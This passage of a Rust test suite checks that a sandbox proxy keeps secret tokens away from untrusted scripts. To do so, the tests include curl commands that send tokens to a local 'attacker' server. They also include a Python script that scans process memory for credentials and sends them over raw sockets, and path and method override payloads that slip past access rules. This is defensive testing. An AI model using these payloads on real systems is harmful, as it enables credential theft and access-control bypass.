         {c} -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/admin\n\
         {c} -H \"Authorization: Bearer $GITHUB_TOKEN\" \"https://localhost:{b}/api/x?t=$GITHUB_TOKEN\"\n\
         {c} -d \"t=$GITHUB_TOKEN\" -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/api/x\n\
         {c} --cacert {ca} -H \"X-T: $GITHUB_TOKEN\" https://127.0.0.1:{a}/tunnel\n\
         echo END\n",
        ca = "/tmp/magus-secrets-ca.pem"
    );
    for user in users() {
        bound.clear();
        attacker.clear();
        let h = harness(&config(b, a), &script);
        let out = run(&h, user, &ca.pem);
        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
        let statuses: Vec<&str> = out
            .stdout
            .lines()
            .filter(|l| l.len() == 3 && l.bytes().all(|b| b.is_ascii_digit()))
            .collect();
        // Plain HTTP (URL, header, body) and the name: refused by the
        // proxy (403, or 000 where the CONNECT was refused).
        assert_eq!(
            &statuses[..3],
            ["403", "403", "403"],
            "{user:?}: {}",
            out.dump()
        );
        assert_ne!(statuses[3], "200", "{user:?}: {}", out.dump());
        // The bound host: DELETE and /admin break the rules; the
        // placeholder in its URL or body is refused.
        assert_eq!(
            &statuses[4..8],
            ["403", "403", "403", "403"],
            "{user:?}: {}",
            out.dump()
        );
        let said = codes(&out.stderr);
        assert!(
            said.iter().filter(|c| *c == "MGS2013").count() >= 4,
            "{user:?}: {said:?} {}",
            out.dump()
        );
        assert!(
            out.stderr.contains("breaks the secret's rules"),
            "{}",
            out.dump()
        );
        assert!(
            out.stderr.contains("/api/*"),
            "the rule is named: {}",
            out.dump()
        );
        // The tunnel to the attacker's TLS server is not terminated: it
        // carries at most the placeholder (which is worth nothing there).
        let log = attacker.log();
        assert!(!log.contains(VALUE), "{user:?}: {log}");
        assert_eq!(
            log.matches("magus-secret-").count(),
            log.matches("/tunnel").count().min(1),
            "{user:?}: only the tunnel: {log}"
        );
        assert!(
            !bound.log().contains(VALUE),
            "{user:?}: nothing refused got through: {}",
            bound.log()
        );
        assert_value_nowhere(&h, &out, user);
    }
}

/// A bound host that sends request headers back in its response's
/// headers (Stripe's `Idempotency-Key`, Microsoft Graph's
/// `client-request-id`, an echo endpoint) got the value in them, in place
/// of the placeholder, and handed it to the spell before round 9. The
/// proxy now masks every value in a bound host's response head: the spell
/// reads `*`s where the host sent the value (the host's log, the control,
/// shows it did), as `Bearer`, as the `Basic` credentials made with it,
/// and in `Idempotency-Key`.
#[test]
fn a_bound_host_sending_the_value_back_shows_the_spell_only_a_mask() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
    let b = bound.port;
    let c = "curl -sS -i --max-time 10";
    let script = format!(
        "{c} -H \"Authorization: Bearer $GITHUB_TOKEN\" -H \"Idempotency-Key: $GITHUB_TOKEN\" https://localhost:{b}/api/echo/bearer\n\
         {c} -u \"user:$GITHUB_TOKEN\" https://localhost:{b}/api/echo/basic\n\
         echo END\n"
    );
    let mask = "*".repeat(VALUE.len());
    let basic = "dXNlcjpnaHBfUExBTlRFRHNlY3JldFZBTFVFMDEyMzQ1Njc4OWFiY2RlZg==";
    for user in users() {
        bound.clear();
        let h = harness(&config(b, attacker.port), &script);
        let out = run(&h, user, &ca.pem);
        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
        // The control: the host got the value and sent it back, three
        // times (`Authorization` twice, `Idempotency-Key` once).
        let log = bound.log();
        let sent_back: Vec<&str> = log
            .lines()
            .filter(|l| l.starts_with("SENT-BACK: "))
            .collect();
        assert_eq!(sent_back.len(), 2, "{user:?}: {log}");
        assert_eq!(sent_back[0].matches(VALUE).count(), 2, "{user:?}: {log}");
        assert!(sent_back[1].contains(basic), "{user:?}: {log}");
        // The spell: a mask in each place.
        for echoed in [
            format!("X-Echo-Authorization: Bearer {mask}\r\n"),
            format!("Idempotency-Key: {mask}\r\n"),
            format!(
                "X-Echo-Authorization: Basic {}\r\n",
                "*".repeat(basic.len())
            ),
        ] {
            assert_printed(&out, user, &echoed);
        }
        assert_eq!(out.stdout.matches("AUTH-OK").count(), 2, "{}", out.dump());
        assert_value_nowhere(&h, &out, user);
        assert!(!out.stdout.contains(basic), "{user:?}: {}", out.dump());
    }
}

/// Reads the memory of every process it can see (`/proc/PID/mem`, else
/// `process_vm_readv`), itself excepted (its own text holds the needles),
/// and counts the processes holding the value (`PLANTED`, a part of it)
/// and the placeholder; a `sleep` child started with the same environment
/// is the scan's own control (its stack holds the variable). Then sends
/// the variable over a bare TCP socket and tries a raw IP socket.
const SCAN: &str = r#"
import os, ctypes, socket, subprocess, sys
value = ''.join(reversed('DETNALP')).encode()
token = os.environ.get('GITHUB_TOKEN', '').encode()
child = subprocess.Popen(['sleep', '30'])
libc = ctypes.CDLL(None, use_errno=True)
class Iov(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('len', ctypes.c_size_t)]
def regions(pid):
    try:
        lines = open('/proc/%d/maps' % pid).read().splitlines()
    except OSError:
        return []
    out = []
    for line in lines:
        a, b = [int(x, 16) for x in line.split()[0].split('-')]
        if b - a <= 64 << 20 and 'r' in line.split()[1]:
            out.append((a, b))
    return out
def read(pid, mem, a, b):
    if mem is not None:
        try:
            mem.seek(a)
            return mem.read(b - a), 'mem'
        except (OSError, ValueError, OverflowError):
            pass
    buf = ctypes.create_string_buffer(b - a)
    local, remote = Iov(ctypes.addressof(buf), b - a), Iov(a, b - a)
    n = libc.process_vm_readv(pid, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return (buf.raw[:n], 'vm') if n > 0 else (b'', '')
seen, readable, with_value, with_token = [], [], [], []
for name in os.listdir('/proc'):
    if not name.isdigit() or int(name) == os.getpid():
        continue
    pid = int(name)
    try:
        comm = open('/proc/%d/comm' % pid).read().strip()
    except OSError:
        comm = '?'
    seen.append('%d:%s' % (pid, comm))
    try:
        mem = open('/proc/%d/mem' % pid, 'rb', 0)
    except OSError:
        mem = None
    hows = set()
    for a, b in regions(pid):
        data, how = read(pid, mem, a, b)
        if data:
            hows.add(how)
            if value in data:
                with_value.append('%d:%s' % (pid, comm))
            if token and token in data:
                with_token.append('%d:%s' % (pid, comm))
    if hows:
        readable.append('%d:%s:%s' % (pid, comm, '+'.join(sorted(hows))))
child.kill()
print('SEEN', ' '.join(seen))
print('READABLE', ' '.join(readable))
print('WITH-TOKEN', len(set(with_token)))
print('WITH-VALUE', len(set(with_value)), ' '.join(sorted(set(with_value))))
port = int(sys.argv[1])
try:
    s = socket.create_connection(('127.0.0.1', port), timeout=3)
    s.sendall(b'RAW ' + token + b'\n')
    s.close()
    print('TCP-SENT')
except OSError as e:
    print('TCP-FAILED', e.errno)
try:
    r = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_UDP)
    r.sendto(b'\0' * 8 + b'RAW ' + token, ('127.0.0.1', port))
    print('RAW-SENT')
except OSError as e:
    print('RAW-FAILED', e.errno)
"#;

/// A plain TCP listener that keeps every byte it is sent.
fn raw_listener() -> (u16, std::sync::Arc<std::sync::Mutex<Vec<u8>>>) {
    use std::io::Read;
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let got = std::sync::Arc::new(std::sync::Mutex::new(Vec::new()));
    let keep = std::sync::Arc::clone(&got);
    std::thread::spawn(move || {
        for mut stream in listener.incoming().flatten() {
            let mut buf = Vec::new();
            let _ = stream.read_to_end(&mut buf);
            keep.lock().unwrap().extend_from_slice(&buf);
        }
    });
    (port, got)
}

/// From inside the jail, no process whose memory a child can read (by
/// `/proc/PID/mem` or `process_vm_readv`) holds a byte of the value
/// (magus proper forgot it; the proxy is outside the jail's PID
/// namespace), and the placeholder sent over a bare socket to the
/// attacker reaches nothing. The control, the sandbox off with the value
/// in the environment: the same scan finds it and the attacker gets it.
#[test]
fn memory_reads_and_raw_sockets_get_nothing_of_the_value() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
    let (port, got) = raw_listener();
    let script = format!("/usr/bin/python3 scan.py {port}\necho END\n");
    for user in users() {
        got.lock().unwrap().clear();
        let h = harness(&config(bound.port, port), &script);
        std::fs::write(h.ws_path("scan.py"), SCAN).unwrap();
        let out = run(&h, user, &ca.pem);
        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
        // The scan works in the jail: it reads its child's memory and
        // finds the placeholder there.
        assert!(
            out.stdout.contains("WITH-TOKEN ") && !out.stdout.contains("WITH-TOKEN 0"),
            "{user:?}: {}",
            out.dump()
        );
        assert!(
            out.stdout.contains("WITH-VALUE 0 \n") || out.stdout.contains("WITH-VALUE 0\n"),
            "{user:?}: the value in a readable process: {}",
            out.dump()
        );
        assert_printed(&out, user, "TCP-FAILED");
        assert_printed(&out, user, "RAW-FAILED");
        assert!(
            got.lock().unwrap().is_empty(),
            "{user:?}: the attacker got bytes"
        );
        assert_value_nowhere(&h, &out, user);
        // magus proper (the jail's PID 1) was among the processes tried,
        // and, not dumpable, gave nothing; the proxy is not in the jail's
        // PID namespace at all.
        let line = |tag: &str| {
            out.stdout
                .lines()
                .find(|l| l.starts_with(tag))
                .unwrap_or("")
                .to_string()
        };
        assert!(line("SEEN ").contains(" 1:"), "{user:?}: {}", out.dump());
        assert!(
            !line("READABLE").contains(" 1:"),
            "{user:?}: {}",
            out.dump()
        );
        eprintln!("{user:?}: {} | {}", line("SEEN "), line("READABLE"));
    }
    // The control.
    let h = harness("sandbox:\n  enabled: false\n", &script);
    std::fs::write(h.ws_path("scan.py"), SCAN).unwrap();
    let mut cmd = h.command();
    cmd.env("GITHUB_TOKEN", VALUE)
        .arg("--workspace")
        .arg(&h.ws)
        .args(["run", "probe"]);
    let out = capture(&mut cmd);
    assert_eq!(out.status, Some(0), "control: {}", out.dump());
    assert!(
        !out.stdout.contains("WITH-VALUE 0"),
        "control: the scan finds the value: {}",
        out.dump()
    );
    assert!(out.stdout.contains("TCP-SENT"), "control: {}", out.dump());
    let sent = String::from_utf8_lossy(&got.lock().unwrap()).to_string();
    assert!(sent.contains(VALUE), "control: the attacker got: {sent}");
}

/// The control: without magus's secrets (the sandbox off, the token in
/// the environment as `env.passthrough` would give it), the same request
/// hands the real value to the attacker.
#[test]
fn control_without_secrets_the_attacker_gets_the_value() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let attacker = Server::start(dir.path(), "attacker", &ca, "127.0.0.1");
    let a = attacker.port;
    let config = "sandbox:\n  enabled: false\n";
    let script = format!("curl -sS --max-time 10 --cacert \"$CA\" -H \"X-T: $GITHUB_TOKEN\" https://127.0.0.1:{a}/\n");
    let h = harness(config, &script);
    let mut cmd = h.command();
    cmd.env("GITHUB_TOKEN", VALUE)
        .env("CA", &ca.pem)
        .env("SSL_CERT_FILE", &ca.pem)
        .arg("--workspace")
        .arg(&h.ws)
        .args(["run", "probe"]);
    let out = capture(&mut cmd);
    assert!(attacker.log().contains(VALUE), "control: {}", out.dump());
}

/// Without user namespaces there is no namespace to force traffic through
/// the proxy: the spell does not run, and the value reaches no one.
#[test]
fn without_user_namespaces_a_spell_with_secrets_does_not_run() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
    let script = format!(
        "curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{}/api/x\n",
        bound.port
    );
    let h = harness(&config(bound.port, 1), &script);
    let mut cmd = h.command();
    cmd.env("MAGUS_TEST_TOKEN", VALUE)
        .env("MAGUS_SANDBOX_USERNS", "0")
        .arg("--workspace")
        .arg(&h.ws)
        .args(["run", "probe"]);
    let out = capture(&mut cmd);
    assert_ne!(out.status, Some(0), "{}", out.dump());
    assert!(
        out.stderr.contains("cannot be kept from it here"),
        "{}",
        out.dump()
    );
    assert!(bound.log().is_empty(), "{}", bound.log());
    assert_value_nowhere(&h, &out, User::Caller);
}

/// `from: {file: PATH}` outside the workspace is read by magus (its
/// trailing newline dropped); a file inside the workspace, where spells
/// can read it, is refused before anything runs.
#[test]
fn a_file_source_outside_the_workspace_works_and_one_inside_is_refused() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
    let b = bound.port;
    let token = dir.path().join("token");
    std::fs::write(&token, format!("{VALUE}\n")).unwrap();
    let script = format!(
        "curl -sS --max-time 10 -H \"Authorization: Bearer $GITHUB_TOKEN\" https://localhost:{b}/api/file\n"
    );
    let with_file = |path: &Path| {
        format!(
            "sandbox:\n  enabled: true\n  network: deny\nspells:\n  probe:\n    network: {{hosts: [\"localhost:{b}\"]}}\n    secrets:\n      - name: GITHUB_TOKEN\n        from: {{file: {:?}}}\n        hosts: [\"localhost:{b}\"]\n",
            path.display().to_string()
        )
    };
    let h = harness(&with_file(&token), &script);
    let mut cmd = h.command();
    cmd.env("SSL_CERT_FILE", &ca.pem)
        .arg("--workspace")
        .arg(&h.ws)
        .args(["run", "probe"]);
    let out = capture(&mut cmd);
    assert_eq!(out.status, Some(0), "{}", out.dump());
    assert!(out.stdout.contains("AUTH-OK"), "{}", out.dump());
    assert_eq!(bound.log().matches(VALUE).count(), 1, "{}", bound.log());
    assert_value_nowhere(&h, &out, User::Caller);

    bound.clear();
    let h = harness("sandbox:\n  enabled: true\n", &script);
    let inside = h.ws_path("token.txt");
    std::fs::write(&inside, VALUE).unwrap();
    h.write_config(&with_file(&inside));
    let mut cmd = h.command();
    cmd.env("SSL_CERT_FILE", &ca.pem)
        .arg("--workspace")
        .arg(&h.ws)
        .args(["run", "probe"]);
    let out = capture(&mut cmd);
    assert_ne!(out.status, Some(0), "{}", out.dump());
    assert!(
        out.stderr.contains("inside the workspace"),
        "{}",
        out.dump()
    );
    assert!(bound.log().is_empty(), "{}", bound.log());

    // A value of two lines (a token and a note under it) is refused: in
    // a header, its second line would reach the host as a line of its own.
    std::fs::write(&token, format!("{VALUE}\nnote: rotate in June\n")).unwrap();
    let h = harness(&with_file(&token), &script);
    let mut cmd = h.command();
    cmd.env("SSL_CERT_FILE", &ca.pem)
        .arg("--workspace")
        .arg(&h.ws)
        .args(["run", "probe"]);
    let out = capture(&mut cmd);
    assert_ne!(out.status, Some(0), "{}", out.dump());
    assert!(out.stderr.contains("holds a line break"), "{}", out.dump());
    assert!(!out.stderr.contains("rotate"), "{}", out.dump());
    assert!(bound.log().is_empty(), "{}", bound.log());
    assert_value_nowhere(&h, &out, User::Caller);
}

/// A spell without `secrets:` is as before: no CA file, no CA variable,
/// no placeholder; its TLS to a listed host is a plain tunnel (the
/// server's own certificate, trusted through the test CA, is what the
/// client sees).
#[test]
fn a_spell_without_secrets_gets_no_ca_and_no_termination() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let bound = Server::start(dir.path(), "bound", &ca, "localhost");
    let b = bound.port;
    let config = format!(
        "sandbox:\n  enabled: true\n  env:\n    passthrough: [CA_PEM]\n  network:\n    hosts: [\"localhost:{b}\"]\n"
    );
    let script = format!(
        "test -e /tmp/magus-secrets-ca.pem && echo CA-FILE\n\
         env | grep -E '^(SSL_CERT_FILE|CURL_CA_BUNDLE|GITHUB_TOKEN)=' || echo NO-CA-VARS\n\
         printf '%s' \"$CA_PEM\" > \"$TMPDIR/ca.pem\"\n\
         curl -sS --max-time 10 --cacert \"$TMPDIR/ca.pem\" https://localhost:{b}/api/x\n"
    );
    for user in users() {
        let h = harness(&config, &script);
        open_to_everyone(&h.root);
        let mut cmd = magus_as(&h, user);
        cmd.env("CA_PEM", std::fs::read_to_string(&ca.pem).unwrap())
            .arg("--workspace")
            .arg(&h.ws)
            .args(["run", "probe"]);
        let out = capture(&mut cmd);
        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
        assert!(!out.stdout.contains("CA-FILE"), "{user:?}: {}", out.dump());
        assert_printed(&out, user, "NO-CA-VARS");
        // Only the server's own certificate (under the test CA) could
        // have answered: no terminating proxy in between.
        assert!(out.stdout.contains("NO-AUTH"), "{user:?}: {}", out.dump());
    }
}

/// `magus sandbox check SPELL` lists the spell's secrets (names, sources,
/// hosts, rules) and never a value, in human output and JSON.
#[test]
fn sandbox_check_lists_the_secrets_without_values() {
    let h = harness(&config(8443, 9443), "true\n");
    for json in [false, true] {
        let mut cmd = h.command();
        cmd.env("MAGUS_TEST_TOKEN", VALUE)
            .arg("--workspace")
            .arg(&h.ws);
        if json {
            cmd.args(["--message-format", "json"]);
        }
        let out = capture(cmd.args(["sandbox", "check", "probe"]));
        assert_eq!(out.status, Some(0), "{}", out.dump());
        assert!(
            out.stdout.contains("GITHUB_TOKEN from env:MAGUS_TEST_TOKEN hosts [localhost:8443] rules [{methods: [GET, POST], paths: [\\\"/api/*\\\"]}]")
                || out.stdout.contains("GITHUB_TOKEN from env:MAGUS_TEST_TOKEN hosts [localhost:8443] rules [{methods: [GET, POST], paths: [\"/api/*\"]}]"),
            "{}",
            out.dump()
        );
        assert!(
            !out.stdout.contains(VALUE) && !out.stderr.contains(VALUE),
            "{}",
            out.dump()
        );
    }
}

/// A bound host as lenient as some real servers are: it reads its path
/// as Tomcat, IIS or a literal-`#` router would (`\` as `/`, `;params`
/// dropped from each segment, dot segments then removed), honours the
/// method and URL override headers and Symfony's `_method` query
/// parameter, answers `TRACE` with the request head, and reflects
/// `Origin` and `X-Request-Id` in its response, as CORS and request-id
/// middlewares do. It logs `EFFECTIVE method path` for each request the
/// value authenticated.
const LENIENT: &str = r#"
import http.server, ssl, sys, posixpath, urllib.parse
cert, key, log, value = sys.argv[1:5]
def effective_path(raw):
    path = raw.split('?')[0].replace('\\', '/')
    path = '/'.join(s.split(';')[0] for s in path.split('/'))
    return posixpath.normpath(path)
class H(http.server.BaseHTTPRequestHandler):
    def handle_any(self):
        n = int(self.headers.get('Content-Length') or 0)
        if n:
            self.rfile.read(n)
        ok = value in (self.headers.get('Authorization') or '')
        method = (self.headers.get('X-HTTP-Method-Override') or self.headers.get('X-HTTP-Method')
                  or self.headers.get('X-Method-Override'))
        query = urllib.parse.parse_qs(urllib.parse.urlsplit(self.path).query)
        method = method or query.get('_method', [self.command])[0]
        path = self.headers.get('X-Original-URL') or self.headers.get('X-Rewrite-URL') or self.path
        path = effective_path(path)
        if self.command == 'TRACE':
            out = (self.requestline + '\r\n' + str(self.headers)).encode()
        else:
            out = ('%s %s %s\n' % ('AUTH-OK' if ok else 'NO-AUTH', method, path)).encode()
        with open(log, 'a') as f:
            f.write('%s %s\n' % ('EFFECTIVE' if ok else 'UNAUTHENTICATED', ' '.join([method, path])))
        self.send_response(200 if ok else 401)
        for name, echoed in [('Origin', 'Access-Control-Allow-Origin'), ('X-Request-Id', 'X-Request-Id')]:
            if self.headers.get(name):
                self.send_header(echoed, self.headers.get(name))
        self.send_header('Content-Length', str(len(out)))
        self.send_header('Connection', 'close')
        self.end_headers()
        self.wfile.write(out)
    do_GET = do_POST = do_DELETE = do_TRACE = handle_any
    def log_message(self, *a): pass
s = http.server.ThreadingHTTPServer(('127.0.0.1', 0), H)
c = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
c.load_cert_chain(cert, key)
s.socket = c.wrap_socket(s.socket, server_side=True)
print(s.server_address[1], flush=True)
s.serve_forever()
"#;

/// A raw HTTPS client: `raw.py LABEL HOST PORT 'LINE|LINE|...'` sends
/// exactly those lines (Python escapes such as `\x5c` decoded) as one
/// request, through `HTTPS_PROXY`'s `CONNECT` where it is set, trusting
/// `SSL_CERT_FILE` (or `RAW_CA`); it prints `CASE LABEL STATUS` and the
/// whole response. Unlike curl it keeps a fragment and any path as is.
const RAW_CLIENT: &str = r#"
import os, socket, ssl, sys
label, host, port, lines = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
request = '\r\n'.join(lines.encode().decode('unicode_escape').split('|')) + '\r\n\r\n'
proxy = os.environ.get('HTTPS_PROXY') or os.environ.get('https_proxy')
if proxy:
    p = proxy.split('://')[-1].rstrip('/')
    s = socket.create_connection((p.rsplit(':', 1)[0], int(p.rsplit(':', 1)[1])), timeout=10)
    s.sendall(('CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n' % (host, port, host, port)).encode())
    got = b''
    while b'\r\n\r\n' not in got:
        byte = s.recv(1)
        if not byte:
            print('CASE', label, 'CONNECT-CLOSED')
            sys.exit(0)
        got += byte
else:
    s = socket.create_connection((host, port), timeout=10)
ctx = ssl.create_default_context(cafile=os.environ.get('RAW_CA') or os.environ['SSL_CERT_FILE'])
t = ctx.wrap_socket(s, server_hostname=host)
t.sendall(request.encode('latin-1'))
reply = b''
try:
    while True:
        chunk = t.recv(65536)
        if not chunk:
            break
        reply += chunk
except (OSError, ssl.SSLError):
    pass
text = reply.decode('latin-1')
status = text.split(' ')[1] if text.startswith('HTTP/') else 'NONE'
print('CASE', label, status)
print(text)
"#;

/// Requests that stay inside the rules as the proxy reads them, but not
/// as a lenient host does (or that make the host echo the value): each
/// `(label, request lines)`; `$GITHUB_TOKEN` has rules (GET and POST under
/// `/api/`), `$OPEN_TOKEN` none.
const SLIPS: [(&str, &str); 9] = [
    ("semicolon-dots", "GET /api/..;/admin HTTP/1.1|Authorization: Bearer $GITHUB_TOKEN"),
    ("backslash-dots", "GET /api/\\x5c..\\x5cadmin HTTP/1.1|Authorization: Bearer $GITHUB_TOKEN"),
    ("fragment-dots", "GET /api/x#/../../admin HTTP/1.1|Authorization: Bearer $GITHUB_TOKEN"),
    ("method-override", "POST /api/x HTTP/1.1|Content-Length: 0|X-HTTP-Method-Override: DELETE|Authorization: Bearer $GITHUB_TOKEN"),
    ("url-override", "GET /api/x HTTP/1.1|X-Original-URL: /admin|Authorization: Bearer $GITHUB_TOKEN"),
    ("method-parameter", "GET /api/x?_method=DELETE HTTP/1.1|Authorization: Bearer $GITHUB_TOKEN"),
    ("origin-echo", "GET /api/x HTTP/1.1|Origin: https://$GITHUB_TOKEN|Authorization: Bearer $GITHUB_TOKEN"),
    ("request-id-echo", "GET /api/x HTTP/1.1|X-Request-Id: $OPEN_TOKEN|Authorization: Bearer $OPEN_TOKEN"),
    ("trace-echo", "TRACE /api/x HTTP/1.1|Authorization: Bearer $OPEN_TOKEN"),
];

fn slips_script(port: u16) -> String {
    let mut script = format!(
        "/usr/bin/python3 raw.py fits localhost {port} \"GET /api/fits HTTP/1.1|Authorization: Bearer $GITHUB_TOKEN\"\n"
    );
    for (label, lines) in SLIPS {
        script.push_str(&format!(
            "/usr/bin/python3 raw.py {label} localhost {port} \"{lines}\"\n"
        ));
    }
    script + "echo END\n"
}

/// The status each case got, from `raw.py`'s `CASE` lines.
fn case_statuses(stdout: &str) -> std::collections::HashMap<String, String> {
    stdout
        .lines()
        .filter_map(|l| l.strip_prefix("CASE "))
        .filter_map(|l| l.split_once(' '))
        .map(|(label, status)| (label.to_string(), status.to_string()))
        .collect()
}

/// The proxy reads a request to a bound host as the host would: a path
/// that a lenient server resolves outside the rules (`..;`, `\`, a
/// fragment), a method or URL override, `TRACE`, and the placeholder in
/// a header that hosts echo back are refused (MGS2013), and the host
/// acts on none of them with the value. The control (the sandbox off, the
/// value in the environment, the same requests straight to the host):
/// each one reaches `/admin` or `DELETE` with the value, or has it echoed.
#[test]
fn requests_a_lenient_host_reads_otherwise_are_refused() {
    let dir = tempfile::tempdir().unwrap();
    let ca = TestCa::new(dir.path());
    let (cert, key) = ca.leaf(dir.path(), "lenient", "localhost");
    let log = dir.path().join("lenient.log");
    std::fs::write(&log, "").unwrap();
    let mut child = Command::new("python3")
        .args(["-c", LENIENT])
        .args([&cert, &key, &log])
        .arg(VALUE)
        .stdout(Stdio::piped())
        .stderr(Stdio::null())
        .spawn()
        .expect("python3 for the lenient server");
    let mut line = String::new();
    BufReader::new(child.stdout.take().unwrap())
        .read_line(&mut line)
        .unwrap();
    let server = Server {
        child,
        port: line.trim().parse().expect("the server's port"),
        log,
    };
    let b = server.port;
    let config = format!(
        "sandbox:\n  enabled: true\n  network: deny\nspells:\n  probe:\n    network: {{hosts: [\"localhost:{b}\"]}}\n    secrets:\n      - name: GITHUB_TOKEN\n        from: {{env: MAGUS_TEST_TOKEN}}\n        hosts: [\"localhost:{b}\"]\n        rules: [{{methods: [GET, POST], paths: [\"/api/*\"]}}]\n      - name: OPEN_TOKEN\n        from: {{env: MAGUS_TEST_TOKEN}}\n        hosts: [\"localhost:{b}\"]\n"
    );
    let script = slips_script(b);
    for user in users() {
        server.clear();
        let h = harness(&config, &script);
        std::fs::write(h.ws_path("raw.py"), RAW_CLIENT).unwrap();
        let out = run(&h, user, &ca.pem);
        assert_eq!(out.status, Some(0), "{user:?}: {}", out.dump());
        let statuses = case_statuses(&out.stdout);
        // The raw client works through the proxy: a request inside the
        // rules gets the value to the host.
        assert_eq!(
            statuses.get("fits").map(String::as_str),
            Some("200"),
            "{user:?}: {}",
            out.dump()
        );
        for (label, _) in SLIPS {
            assert_eq!(
                statuses.get(label).map(String::as_str),
                Some("403"),
                "{user:?}: {label}: {}",
                out.dump()
            );
        }
        let log = server.log();
        assert_eq!(log, "EFFECTIVE GET /api/fits\n", "{user:?}: {}", out.dump());
        let said = codes(&out.stderr);
        assert_eq!(
            said.iter().filter(|c| *c == "MGS2013").count(),
            SLIPS.len(),
            "{user:?}: {said:?} {}",
            out.dump()
        );
        assert_value_nowhere(&h, &out, user);
    }
    // The control: straight to the host with the value, each request
    // does what the proxy must stop.
    server.clear();
    let h = harness("sandbox:\n  enabled: false\n", &script);
    std::fs::write(h.ws_path("raw.py"), RAW_CLIENT).unwrap();
    let mut cmd = h.command();
    cmd.env("GITHUB_TOKEN", VALUE)
        .env("OPEN_TOKEN", VALUE)
        .env("RAW_CA", &ca.pem)
        .env_remove("HTTPS_PROXY")
        .env_remove("https_proxy")
        .arg("--workspace")
        .arg(&h.ws)
        .args(["run", "probe"]);
    let out = capture(&mut cmd);
    assert_eq!(out.status, Some(0), "control: {}", out.dump());
    let log = server.log();
    for effective in ["EFFECTIVE GET /admin\n", "EFFECTIVE DELETE /api/x\n"] {
        assert!(log.contains(effective), "control: {effective}: {log}");
    }
    assert_eq!(
        log.matches("EFFECTIVE GET /admin\n").count(),
        4,
        "control: {log}"
    );
    assert_eq!(
        log.matches("EFFECTIVE DELETE /api/x\n").count(),
        2,
        "control: {log}"
    );
    for echo in ["origin-echo", "request-id-echo", "trace-echo"] {
        assert!(
            case_text(&out.stdout, echo).contains(VALUE),
            "control: {echo}: {}",
            out.dump()
        );
    }
}

/// What `raw.py` printed for the case `label`.
fn case_text<'o>(stdout: &'o str, label: &str) -> &'o str {
    let start = stdout
        .find(&format!("CASE {label} "))
        .unwrap_or(stdout.len());
    let rest = &stdout[start..];
    let end = rest[1..].find("CASE ").map_or(rest.len(), |e| e + 1);
    &rest[..end]
}

/// A `file:` source that the spell's own view shows (a `sandbox.allow`
/// entry covering it) is refused before anything runs: the spell could
/// read the value from the file, around the proxy. The control: the same
/// grant without `secrets:` lets the spell print the file's contents.
#[test]
fn a_file_source_the_spell_can_read_is_refused() {
    let h = harness("sandbox:\n  enabled: true\n", "cat \"$TOKEN_FILE\"\n");
    let shared = h.root.join("shared");
    std::fs::create_dir(&shared).unwrap();
    let token = shared.join("token");
    std::fs::write(&token, format!("{VALUE}\n")).unwrap();
    let granting = |secrets: &str| {
        format!(
            "sandbox:\n  enabled: true\n  network: deny\n  env:\n    passthrough: [TOKEN_FILE]\n  allow:\n    - path: {shared:?}\n      mode: ro\nspells:\n  probe:\n    network: {{hosts: [\"localhost:8443\"]}}\n{secrets}",
            shared = shared.display().to_string()
        )
    };
    h.write_config(&granting(&format!(
        "    secrets:\n      - name: GITHUB_TOKEN\n        from: {{file: {:?}}}\n        hosts: [\"localhost:8443\"]\n",
        token.display().to_string()
    )));
    for user in users() {
        open_to_everyone(&h.root);
        let mut cmd = magus_as(&h, user);
        cmd.env("TOKEN_FILE", &token)
            .arg("--workspace")
            .arg(&h.ws)
            .args(["run", "probe"]);
        let out = capture(&mut cmd);
        assert_ne!(out.status, Some(0), "{user:?}: {}", out.dump());
        assert!(
            out.stderr.contains("the spell can read it"),
            "{user:?}: {}",
            out.dump()
        );
        assert_value_nowhere(&h, &out, user);
    }
    // The control: the grant shows the file to the spell.
    h.write_config(&granting(""));
    let mut cmd = h.command();
    cmd.env("TOKEN_FILE", &token)
        .arg("--workspace")
        .arg(&h.ws)
        .args(["run", "probe"]);
    let out = capture(&mut cmd);
    assert!(out.stdout.contains(VALUE), "control: {}", out.dump());
}

/// A spell that prints what `env.get` gives it and what its children see
/// of two variables another spell's secrets are read from.
const THIEF: &str = "import \"std\";\nimport \"env\";\nimport \"sh\";\nfun main(args: [str]) > int {\n    std.print(\"ENV.GET {env.get(\"GH_TOKEN\") ?? \"null\"} {env.get(\"MAGUS_TEST_TOKEN\") ?? \"null\"}\");\n    return sh.run([\"/bin/sh\", \"-c\", \"env; echo CHILD-RAN\"]);\n}\n";

/// Another spell's token, from the variable its secret is read from: the
/// workspace passes `GH_*` through (a CI's `GH_REPO`, `GH_HOST`), and
/// `MAGUS_*` reaches every child; `probe` reads its secrets from `GH_TOKEN`
/// and `MAGUS_TEST_TOKEN`. Before the fix `magus run thief`, a spell with
/// no secret, got both real values (its own `env.get` and its children):
/// only `probe`'s own children had the source withheld. Now a secret's
/// source reaches no child of any spell. The control, the sandbox off,
/// hands `thief` the values.
#[test]
